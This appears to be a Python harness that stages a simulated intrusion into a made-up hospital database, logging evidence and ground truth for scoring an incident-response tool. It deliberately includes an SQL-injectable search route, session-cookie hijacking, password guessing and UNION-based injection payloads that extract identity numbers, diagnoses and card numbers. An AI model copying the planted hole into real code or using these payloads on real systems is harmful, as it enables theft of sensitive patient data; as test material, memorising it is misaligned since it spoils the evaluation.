#!/usr/bin/env python3
"""Records an intrusion into a made-up hospital on real servers, with its truth.

    record.py INTO [--seed N] [--seconds N] [--intruder stolen-session|injection]

Needs MariaDB's and nginx's programs (Debian: mariadb-server, nginx-light), the Python packages PyMySQL and
mysql-connector-python, and to be root. Two applications run behind nginx: the ward portal (text protocol, a pool of
connections, a JSON log) and the laboratory (prepared statements, a text log). Thirty people work with them, a billing batch
and a database administrator with the database; one intruder comes. The servers write the evidence themselves: MariaDB its
general log, its slow log (of every statement) and server_audit. What the intruder was shown is written by the applications,
and for direct and injected statements by the intruder's own client, into INTO/truth.

Then, with a release build, and score.py beside this file:

    strandline respond --estate INTO/estate.toml --evidence INTO/evidence --case CASE
    score.py CASE INTO
"""
import argparse
import csv
import datetime
import http.client
import http.server
import json
import os
import pathlib
import random
import re
import secrets
import shutil
import socketserver
import subprocess
import tempfile
import threading
import time
import urllib.parse

import mysql.connector
import pymysql

HERE = pathlib.Path(__file__).resolve().parent
DATABASE, PORTAL, LABORATORY, BILLING = "127.0.20.9", "127.0.20.5", "127.0.20.6", "127.0.20.40"
DATABASE_PORT, WEB_PORT, APPLICATION_PORT = 3399, 8088, 9000
INTRUDER = "198.51.100.77"
PATIENTS, STAFF = 2400, 30
SURNAMES = ["Chan", "Wong", "Lee", "Cheung", "Ho", "Lam", "Ng", "Tang", "Yip", "Kwok", "O'Brien", "Singh", "Müller"]
GIVEN = ["Ka Yan", "Siu Ming", "Wai", "Mei Ling", "Chi Keung", "Amanda", "Peter", "Pui Shan", "Tsz Kin", "Hoi Lam"]
WARDS = ["A1", "A2", "B1", "B3", "ICU", "MAT", "PSY"]
DIAGNOSES = ["Fracture of femur", "Type 2 diabetes", "Pneumonia", "HIV infection", "Depressive episode", "Asthma", "Appendicitis"]
DRUGS = ["Metformin", "Amoxicillin", "Tenofovir", "Sertraline", "Salbutamol"]
SCHEMA = """
create table patient (id int unsigned not null auto_increment primary key, mrn varchar(12) not null unique, hkid varchar(12),
  surname varchar(40), given_name varchar(60), name_zh varchar(20), sex enum('F','M','X'), birth_date date, mobile varchar(20),
  email varchar(120), address varchar(200), ward varchar(10), key (ward));
create table admission (id int unsigned not null auto_increment primary key, patient_id int unsigned not null, admitted datetime,
  discharged datetime null, diagnosis varchar(120), foreign key (patient_id) references patient (id));
create table prescription (id int unsigned not null auto_increment primary key, patient_id int unsigned not null,
  drug varchar(60), dose varchar(30), issued date, foreign key (patient_id) references patient (id));
create table invoice (id int unsigned not null auto_increment primary key, patient_id int unsigned not null,
  card_number varchar(25), amount decimal(10,2), paid tinyint(1) not null default 0, foreign key (patient_id) references patient (id));
create table account (username varchar(40) primary key, pw varchar(80));
create view v_ward as select p.id, p.surname, p.ward, a.diagnosis from patient p join admission a on a.patient_id = p.id
"""


class Truth:
    """What the intruder was shown: (patient, column, basis) and when first."""

    def __init__(self):
        self.cells, self.lock = {}, threading.Lock()

    def shown(self, patients, columns, basis="disclosed"):
        with self.lock:
            for patient in patients:
                for column in columns:
                    self.cells.setdefault((patient, column, basis), time.time())

    def write(self, path):
        with open(path, "w", newline="") as file:
            out = csv.writer(file)
            out.writerow(["patient", "column", "basis", "first_seen"])
            out.writerows([patient, column, basis, f"{at:.3f}"] for (patient, column, basis), at in sorted(self.cells.items()))


class Server:
    """A MariaDB server of its own, filled before its logs are switched on."""

    def __init__(self, folder, logs, dice):
        self.data, self.logs, self.socket = folder / "data", logs, str(folder / "socket")
        install = ["mariadb-install-db", "--user=mysql", f"--datadir={self.data}", "--auth-root-authentication-method=normal", "--skip-test-db"]
        subprocess.run(install, check=True, stdout=subprocess.DEVNULL)
        subprocess.run(["chown", "-R", "mysql", folder, logs], check=True)
        self.passwords = {user: f"Pass-{secrets.token_hex(6)}" for user in ["portal", "lab", "bi_report", "dba_ho", "billing"]}
        self.start([])
        self.fill(dice)

    def start(self, options):
        common = ["mariadbd", "--no-defaults", "--user=mysql", f"--datadir={self.data}", f"--socket={self.socket}", f"--port={DATABASE_PORT}",
                  f"--bind-address={DATABASE}", "--skip-name-resolve", "--plugin-maturity=beta", f"--log-error={self.data}/errors"]
        self.process = subprocess.Popen(common + options, env={**os.environ, "TZ": "UTC"}, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        for _ in range(300):
            try:
                self.root().close()
                return
            except pymysql.Error:
                time.sleep(0.1)
        raise SystemExit("the database does not start")

    def start_logging(self):
        self.stop()
        self.start(["--general-log=1", f"--general-log-file={self.logs}/general.log", "--slow-query-log=1", "--long-query-time=0",
                    f"--slow-query-log-file={self.logs}/slow.log", "--plugin-load-add=server_audit", "--server-audit-logging=ON",
                    "--server-audit-events=CONNECT,QUERY,TABLE", f"--server-audit-file-path={self.logs}/server_audit.log"])

    def stop(self):
        self.process.terminate()
        self.process.wait()

    def root(self):
        return pymysql.connect(unix_socket=self.socket, user="root", autocommit=True, charset="utf8mb4")

    def connect(self, user, source, autocommit=True):
        return pymysql.connect(host=DATABASE, port=DATABASE_PORT, user=user, password=self.passwords[user], database="clinic",
                               autocommit=autocommit, charset="utf8mb4", bind_address=source)

    def fill(self, dice):
        pick = dice.choice
        day = lambda first, last: f"{dice.randint(first, last)}-{dice.randint(1, 12):02}-{dice.randint(1, 28):02}"
        self.patients = []
        for number in range(1, PATIENTS + 1):
            surname, given = pick(SURNAMES), pick(GIVEN)
            self.patients.append((
                number, f"M{100000 + number * 7}", f"{pick('ABCDEGKPRVYZ')}{dice.randint(100000, 999999)}({dice.randint(0, 9)})", surname, given,
                pick("陳黃李張何林吳鄧葉郭") + pick("家欣小明偉美玲志") + pick("強佩珊子健海嵐"), pick("FM"), day(1935, 2020),
                f"+852 {dice.randint(5, 9)}{dice.randint(1000000, 9999999)}",
                f"{given.split()[0].lower()}.{number}@mail.example" if dice.random() < 0.8 else None,
                f"Flat {dice.randint(1, 30)}, Block {pick('ABCD')}, {pick(['Tai Po', 'Sha Tin', 'Kwun Tong'])}", pick(WARDS)))
        admissions = [(n, f"{day(2026, 2026)} 10:{dice.randint(10, 59)}:00", None if dice.random() < 0.25 else "2026-11-01 10:00:00", pick(DIAGNOSES))
                      for n in range(1, PATIENTS + 1) for _ in range(dice.randint(1, 3))]
        drugs = [(n, pick(DRUGS), pick(["500 mg", "20 mg", "1 puff"]), day(2026, 2026)) for n in range(1, PATIENTS + 1) for _ in range(dice.randint(0, 3))]
        invoices = [(n, f"4{dice.randint(10**14, 10**15 - 1)}", dice.randint(100, 90000) / 10, dice.randint(0, 1)) for n in range(1, PATIENTS + 1) if dice.random() < 0.6]
        self.staff = [(f"{pick('ndc')}{pick(SURNAMES).lower()[:4].strip(chr(39))}{n:02}", secrets.token_hex(6)) for n in range(STAFF)]
        with self.root() as root, root.cursor() as cursor:
            cursor.execute("create database clinic character set utf8mb4")
            cursor.execute("use clinic")
            for statement in SCHEMA.split(";"):
                cursor.execute(statement)
            cursor.executemany("insert into patient values (" + ",".join(["%s"] * 12) + ")", self.patients)
            cursor.executemany("insert into admission (patient_id, admitted, discharged, diagnosis) values (%s, %s, %s, %s)", admissions)
            cursor.executemany("insert into prescription (patient_id, drug, dose, issued) values (%s, %s, %s, %s)", drugs)
            cursor.executemany("insert into invoice (patient_id, card_number, amount, paid) values (%s, %s, %s, %s)", invoices)
            cursor.executemany("insert into account values (%s, sha2(%s, 256))", self.staff)
            for user, password in self.passwords.items():
                cursor.execute(f"create user '{user}'@'%' identified by '{password}'")
                cursor.execute(f"grant select, insert, update, delete on clinic.* to '{user}'@'%'")

    def dump(self, path):
        with open(path, "wb") as out:
            command = ["mariadb-dump", "--no-defaults", "-uroot", f"--socket={self.socket}", "--ignore-table=clinic.account", "clinic"]
            subprocess.run(command, check=True, stdout=out)


class Portal:
    """The ward portal: a pool of connections, values written into the SQL by its driver, and one route that concatenates."""

    host, session_letters = PORTAL, 10

    def __init__(self, server, truth, log):
        self.server, self.truth, self.log = server, truth, open(log, "a", buffering=1)
        self.sessions, self.pool, self.lock = {}, [], threading.Lock()

    def query(self, sql, values=()):
        with self.lock:
            connection = self.pool.pop() if self.pool else None
        connection = connection or self.server.connect("portal", PORTAL)
        with connection.cursor() as cursor:
            cursor.execute(sql, values)
            rows = cursor.fetchall()
        with self.lock:
            self.pool.append(connection)
        return rows

    def answer(self, path, fields, form):
        """Status, rows, and the columns that they show about the patient in the first cell."""
        if path == "/ward":
            first = (int(fields.get("page", "1")) - 1) * 25
            rows = self.query("SELECT `id`, `surname`, `given_name`, `sex`, `ward` FROM `patient` WHERE `ward` = %s ORDER BY `surname`, `id` LIMIT %s, 25",
                              (fields.get("ward", "A1"), first))
            return 200, rows, ["patient.surname", "patient.given_name", "patient.sex", "patient.ward"]
        if found := re.fullmatch(r"/patients/(\d+)", path):
            columns = ["hkid", "surname", "given_name", "name_zh", "sex", "birth_date", "mobile", "email", "address", "ward"]
            rows = self.query(f"SELECT `id`, {', '.join(f'`{c}`' for c in columns)} FROM `patient` WHERE `id` = %s", (int(found[1]),))
            return (200 if rows else 404), rows, [f"patient.{column}" for column in columns]
        if found := re.fullmatch(r"/patients/(\d+)/admissions", path):
            rows = self.query("SELECT a.patient_id, a.admitted, a.discharged, a.diagnosis FROM admission AS a WHERE a.patient_id = %s ORDER BY a.admitted DESC",
                              (int(found[1]),))
            return 200, rows, ["admission.admitted", "admission.discharged", "admission.diagnosis"]
        if path == "/find":
            rows = self.query("SELECT id, surname, given_name, birth_date, mobile FROM patient WHERE CONCAT(surname, ' ', given_name) LIKE %s ORDER BY id LIMIT 15",
                              (f"%{fields.get('q', '')}%",))
            return 200, rows, ["patient.surname", "patient.given_name", "patient.birth_date", "patient.mobile"]
        if path == "/search":
            term = fields.get("term", "")
            rows = self.query(f"SELECT id, surname, given_name FROM patient WHERE surname LIKE '{term}%' ORDER BY id LIMIT 20".replace("%", "%%"))
            # What injected SQL shows, the intruder's client knows.
            return 200, rows, [] if "UNION" in term else ["patient.surname", "patient.given_name"]
        if path == "/export/ward.csv":
            rows = self.query("SELECT p.id, p.mrn, p.surname, p.given_name, p.birth_date, a.diagnosis FROM patient p INNER JOIN admission a "
                              "ON a.patient_id = p.id AND a.discharged IS NULL WHERE p.ward = %s", (fields.get("ward", ""),))
            return 200, rows, ["patient.surname", "patient.given_name", "patient.birth_date", "admission.diagnosis"]
        if path == "/note":
            self.query("UPDATE patient SET mobile = %s WHERE id = %s", (form.get("mobile"), int(form["id"])))
            return 200, [], []
        return 404, [], []

    def sign_in(self, user, password):
        return bool(self.query("SELECT username FROM account WHERE username = %s AND pw = SHA2(%s, 256)", (user, password)))

    def write(self, request):
        self.log.write(json.dumps({
            "@timestamp": request["at"].isoformat(timespec="milliseconds").replace("+00:00", "Z"), "event": {"action": request["action"]},
            "user": {"name": request["user"]}, "http": {"request": {"id": request["id"], "method": request["method"]},
                                                        "response": {"status_code": request["status"], "bytes": request["bytes"]}},
            "url": {"original": request["url"]}, "source": {"ip": request["address"]}, "session": {"id": request["session"]}}) + "\n")


class Laboratory(Portal):
    """The laboratory: a connection for each request, statements prepared by the server, a text log."""

    host, session_letters = LABORATORY, 8

    def query(self, sql, values=()):
        with mysql.connector.connect(host=DATABASE, port=DATABASE_PORT, user="lab", password=self.server.passwords["lab"], database="clinic", autocommit=True) as connection:
            cursor = connection.cursor(prepared=True)
            cursor.execute(sql.replace("%s", "?"), values)
            return cursor.fetchall()

    def answer(self, path, fields, form):
        if found := re.fullmatch(r"/rx/(\d+)", path):
            rows = self.query("SELECT patient_id, drug, dose, issued FROM prescription WHERE patient_id = %s", (int(found[1]),))
            return 200, rows, ["prescription.drug", "prescription.dose", "prescription.issued"]
        if path == "/drug":
            rows = self.query("SELECT p.id, p.surname, r.drug FROM prescription r JOIN patient p ON p.id = r.patient_id WHERE r.drug = %s AND r.issued >= %s LIMIT 40",
                              (fields.get("name", ""), "2026-06-01"))
            return 200, rows, ["patient.surname", "prescription.drug"]
        return 404, [], []

    def write(self, request):
        at = request["at"].strftime("%Y-%m-%d %H:%M:%S,%f")[:-3]
        self.log.write(f"{at} INFO  [{threading.get_ident() % 40}] lab.web - {request['action']} rid={request['id']} usr={request['user']} "
                       f"sess={request['session']} ip={request['address']} {request['method']} {request['url']} -> {request['status']}\n")


def serve(application):
    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *_):
            pass

        def do_GET(self):
            url = urllib.parse.urlsplit(self.path)
            length = int(self.headers.get("Content-Length") or 0)
            form = dict(urllib.parse.parse_qsl(self.rfile.read(length).decode())) if length else {}
            token = (self.headers.get("Cookie") or "").removeprefix("sid=")
            user, address, rows, columns = application.sessions.get(token), self.headers.get("X-Real-IP", ""), [], []
            if url.path == "/login":
                user, known = form.get("u", "-"), application.sign_in(form.get("u"), form.get("p"))
                status, action = (200, "login_ok") if known else (401, "login_failed")
                if known:
                    token = secrets.token_hex(16)
                    application.sessions[token] = user
            elif user:
                (status, rows, columns), action = application.answer(url.path, dict(urllib.parse.parse_qsl(url.query)), form), "request"
            else:
                status, action = 401, "denied"
            if address == INTRUDER:
                application.truth.shown([row[0] for row in rows], columns)
            body = json.dumps([[str(cell) for cell in row] for row in rows]).encode()
            application.write({"at": datetime.datetime.now(datetime.timezone.utc), "action": action, "user": user or "-", "id": self.headers.get("X-Request-ID", ""),
                               "method": self.command, "url": self.path, "status": status, "bytes": len(body), "address": address,
                               "session": token[:application.session_letters]})
            self.send_response(status)
            self.send_header("Content-Length", str(len(body)))
            if action == "login_ok":
                self.send_header("Set-Cookie", f"sid={token}")
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_GET

    class Threads(socketserver.ThreadingMixIn, http.server.HTTPServer):
        daemon_threads, request_queue_size = True, 128

    threading.Thread(target=Threads((application.host, APPLICATION_PORT), Handler).serve_forever, daemon=True).start()


def start_nginx(folder, evidence):
    def site(host, log):
        return (f"server {{ listen {host}:{WEB_PORT}; access_log {log}; location / {{ proxy_pass http://{host}:{APPLICATION_PORT}; "
                "proxy_set_header X-Real-IP $remote_addr; proxy_set_header X-Request-ID $request_id; proxy_http_version 1.1; } }")
    (folder / "nginx.conf").write_text(
        f"daemon off; user root; pid {folder}/nginx.pid; error_log {folder}/nginx.errors; events {{}} http {{ set_real_ip_from 127.0.0.0/8; real_ip_header X-Forwarded-For;\n"
        "log_format ward '$time_iso8601 $remote_addr \"$request\" $status $bytes_sent rt=$request_time \"$http_user_agent\" id=$request_id';\n"
        f"{site(PORTAL, f'{evidence}/portal/access.log ward')}\n{site(LABORATORY, f'{evidence}/lab/access.log combined')} }}\n")
    process = subprocess.Popen(["nginx", "-c", folder / "nginx.conf"])
    time.sleep(1)
    return process


class Browser:
    def __init__(self, host, address, agent="Mozilla/5.0 (Windows NT 10.0) Chrome/140"):
        self.host, self.address, self.agent, self.cookie = host, address, agent, None

    def ask(self, path, form=None):
        headers = {"X-Forwarded-For": self.address, "User-Agent": self.agent, "Content-Type": "application/x-www-form-urlencoded"}
        if self.cookie:
            headers["Cookie"] = f"sid={self.cookie}"
        connection = http.client.HTTPConnection(self.host, WEB_PORT, timeout=20)
        connection.request("POST" if form else "GET", path, urllib.parse.urlencode(form) if form else None, headers)
        response = connection.getresponse()
        response.read()
        if cookie := response.getheader("Set-Cookie"):
            self.cookie = cookie.removeprefix("sid=")
        connection.close()

    def sign_in(self, user, password):
        self.ask("/login", {"u": user, "p": password})


class Hospital:
    def __init__(self, seed, seconds, server, truth):
        self.seed, self.seconds, self.server, self.truth = seed, seconds, server, truth
        self.end, self.at_work = time.time() + seconds, {}

    def run(self, intruder):
        people = [(self.work, (number, account)) for number, account in enumerate(self.server.staff)]
        threads = [threading.Thread(target=what, args=values) for what, values in [*people, (self.bill, ()), (self.administer, ()), (intruder, (self,))]]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def work(self, number, account):
        dice = random.Random(self.seed * 1000 + number)
        browser = Browser(PORTAL if number % 4 else LABORATORY, f"10.44.{dice.randint(1, 8)}.{dice.randint(2, 250)}")
        time.sleep(dice.random() * self.seconds * 0.3)
        while time.time() < self.end:
            if dice.random() < 0.15:
                browser.sign_in(account[0], "mistyped")
            browser.sign_in(*account)
            self.at_work[number] = browser
            for _ in range(dice.randint(10, 60)):
                if time.time() > self.end:
                    break
                self.one_request(browser, dice)
                time.sleep(dice.expovariate(1 / 1.5))

    def one_request(self, browser, dice):
        patient, name = dice.randint(1, PATIENTS + 30), urllib.parse.quote(dice.choice(SURNAMES))
        if browser.host == LABORATORY:
            browser.ask(dice.choice([f"/rx/{patient}", f"/rx/{patient}", f"/drug?name={dice.choice(DRUGS)}"]))
        elif dice.random() < 0.02:
            browser.ask("/note", {"id": dice.randint(1, PATIENTS), "mobile": f"+852 9{dice.randint(1000000, 9999999)}"})
        elif dice.random() < 0.01:
            browser.ask(f"/export/ward.csv?ward={dice.choice(WARDS)}")
        else:
            browser.ask(dice.choice([f"/patients/{patient}", f"/patients/{patient}/admissions", f"/ward?ward={dice.choice(WARDS)}&page={dice.randint(1, 4)}",
                                     f"/find?q={name}", f"/search?term={name.replace('%27', '')}"]))

    def bill(self):
        while time.time() < self.end:
            with self.server.connect("billing", BILLING, autocommit=False) as connection, connection.cursor() as cursor:
                cursor.execute("SELECT p.mrn, p.surname, i.card_number, i.amount FROM invoice i JOIN patient p ON p.id = i.patient_id WHERE i.paid = 0")
                cursor.fetchall()
            time.sleep(self.seconds / 5)

    def administer(self):
        time.sleep(self.seconds * 0.4)
        with self.server.connect("dba_ho", "127.0.20.31") as connection, connection.cursor() as cursor:
            for sql in ["show processlist", "select count(*) from patient", "select table_name, table_rows from information_schema.tables"]:
                cursor.execute(sql)


def stolen_session(hospital):
    """A session at work, used from elsewhere; then the report role, from the portal's own host."""
    time.sleep(hospital.seconds * 0.45)
    victims = [number for number, browser in sorted(hospital.at_work.items()) if browser.host == PORTAL]
    browser = Browser(PORTAL, INTRUDER, "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Firefox/128.0")
    browser.cookie = hospital.at_work[victims[hospital.seed % len(victims)]].cookie
    browser.ask("/ward?ward=PSY&page=1")
    first = random.Random(hospital.seed).randint(1, PATIENTS - 200)
    for patient in range(first, first + 120):
        browser.ask(f"/patients/{patient}")
        if patient % 5 == 0:
            browser.ask(f"/patients/{patient}/admissions")
        time.sleep(0.12)
    browser.ask("/export/ward.csv?ward=MAT")
    browser.ask("/find?q=Singh")
    with hospital.server.connect("bi_report", PORTAL) as connection, connection.cursor() as cursor:
        def read(sql, columns=(), inferred=()):
            cursor.execute(sql)
            patients = [row[0] for row in cursor.fetchall()]
            hospital.truth.shown(patients, columns)
            hospital.truth.shown(patients, inferred, "inferred")
        cursor.execute("SELECT table_name, column_name FROM information_schema.columns WHERE table_schema = DATABASE()")
        read("SELECT p.`id`, p.hkid, i.card_number\nFROM patient p\n  JOIN invoice i ON i.patient_id = p.id -- cards\n"
             "WHERE p.ward IN ('ICU', 'PSY') AND i.amount > 5000\nORDER BY i.amount DESC, i.id LIMIT 60", ["patient.hkid", "invoice.card_number"], ["patient.ward"])
        read("SELECT DISTINCT p.id, p.surname, p.mobile FROM patient p WHERE EXISTS (SELECT 1 FROM admission a WHERE a.patient_id = p.id "
             "AND a.diagnosis = 'HIV infection') AND p.birth_date >= '1990-01-01'", ["patient.surname", "patient.mobile"], ["admission.diagnosis", "patient.birth_date"])
        read("SELECT id, IFNULL(email, 'none') AS mail, DATE_FORMAT(birth_date, '%Y') FROM `clinic`.`patient` WHERE surname <=> 'Müller' LIMIT 10, 30",
             ["patient.email", "patient.birth_date"], ["patient.surname"])
        cursor.execute("SELECT ward, COUNT(*) FROM patient GROUP BY ward")
        try:
            cursor.execute("SELECT * FROM mysql.user")
        except pymysql.Error:
            pass  # the report role may not


def injection(hospital):
    """A guessed password, prescriptions in order of their numbers, then SQL of his own through the portal's search."""
    time.sleep(hospital.seconds * 0.45)
    user, password = hospital.server.staff[hospital.seed % STAFF]
    browser = Browser(LABORATORY, INTRUDER, "python-requests/2.31")
    for guess in range(9):
        browser.sign_in(user, f"Summer{guess}")
    browser.sign_in(user, password)
    first = random.Random(hospital.seed).randint(1, PATIENTS - 200)
    for patient in range(first, first + 90):
        browser.ask(f"/rx/{patient}")
        time.sleep(0.1)
    browser = Browser(PORTAL, INTRUDER, "python-requests/2.31")
    browser.sign_in(user, password)
    browser.ask("/search?term=Chan")
    with hospital.server.root() as root, root.cursor() as cursor:
        cursor.execute("use clinic")

        def inject(sql, which, columns, inferred=()):
            cursor.execute(which)
            patients = [row[0] for row in cursor.fetchall()]
            browser.ask("/search?term=" + urllib.parse.quote(f"x' {sql} -- "))
            hospital.truth.shown(patients, columns)
            hospital.truth.shown(patients, inferred, "inferred")
        ward = "FROM patient WHERE ward='ICU' ORDER BY 1 LIMIT 40"
        inject(f"UNION SELECT id, hkid, mobile {ward}", f"SELECT id {ward}", ["patient.hkid", "patient.mobile"], ["patient.ward"])
        some = "FROM patient WHERE id BETWEEN 100 AND 130"
        inject(f"UNION ALL SELECT 1, GROUP_CONCAT(CONCAT_WS(0x3a, surname, birth_date) SEPARATOR 0x0a), 3 {some}", f"SELECT id {some}",
               ["patient.surname", "patient.birth_date"])
        young = "FROM admission a JOIN patient p ON p.id=a.patient_id WHERE a.diagnosis LIKE 'HIV%' AND YEAR(p.birth_date) > 2000"
        inject(f"UNION SELECT a.patient_id, a.diagnosis, p.name_zh {young}", f"SELECT a.patient_id {young}",
               ["admission.diagnosis", "patient.name_zh"], ["patient.birth_date"])


def main():
    words = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    words.add_argument("into", type=pathlib.Path)
    words.add_argument("--seed", type=int, default=1)
    words.add_argument("--seconds", type=int, default=200)
    words.add_argument("--intruder", choices=["stolen-session", "injection"], default="stolen-session")
    asked = words.parse_args()
    into = asked.into.resolve()
    for folder in ["evidence/portal", "evidence/lab", "evidence/db", "snapshot", "register", "truth"]:
        (into / folder).mkdir(parents=True)
    into.chmod(0o755)
    dice, truth = random.Random(asked.seed), Truth()
    with tempfile.TemporaryDirectory() as folder:
        os.chmod(folder, 0o755)
        server = Server(pathlib.Path(folder), into / "evidence/db", dice)
        server.dump(into / "snapshot/clinic.sql")
        with open(into / "register/patients.csv", "w", newline="") as file:
            out = csv.writer(file)
            out.writerow(["id", "mrn", "english_name", "chinese_name", "mail", "postal", "lang", "state"])
            out.writerows([p[0], p[1], f"{p[3]} {p[4]}", p[5], p[9] or "", p[10], dice.choice(["en", "zh-Hant"]), "active"] for p in server.patients)
        shutil.copy(HERE / "estate.toml", into / "estate.toml")
        server.start_logging()
        serve(Portal(server, truth, into / "evidence/portal/app.json"))
        serve(Laboratory(server, truth, into / "evidence/lab/lab.log"))
        nginx = start_nginx(pathlib.Path(folder), into / "evidence")
        try:
            Hospital(asked.seed, asked.seconds, server, truth).run(stolen_session if asked.intruder == "stolen-session" else injection)
        finally:
            nginx.terminate()
            nginx.wait()
            server.stop()
    truth.write(into / "truth/exposures.csv")
    print(f"{into}: {len({patient for patient, _, _ in truth.cells})} people were shown to the intruder")


if __name__ == "__main__":
    main()
